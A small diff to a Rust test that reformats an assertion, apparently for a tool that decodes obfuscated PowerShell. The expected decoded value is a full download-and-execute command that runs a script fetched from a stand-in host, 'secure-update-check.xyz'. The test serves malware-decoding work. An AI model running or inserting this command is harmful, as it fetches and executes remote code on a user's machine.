@@ -19,7 +19,9 @@ fn notebook_cells_run() -> Result<(), Box<dyn std::error::Error>> {
     let ps = unpack(PS)?;
     assert_eq!(
         ps.items()[0].decoded_string.as_deref(),
-        Some("IEX (New-Object Net.WebClient).DownloadString('http://secure-update-check.xyz/a.ps1')")
+        Some(
+            "IEX (New-Object Net.WebClient).DownloadString('http://secure-update-check.xyz/a.ps1')"
+        )
     );
     assert!(ps.to_html().contains("utf-16"));
 
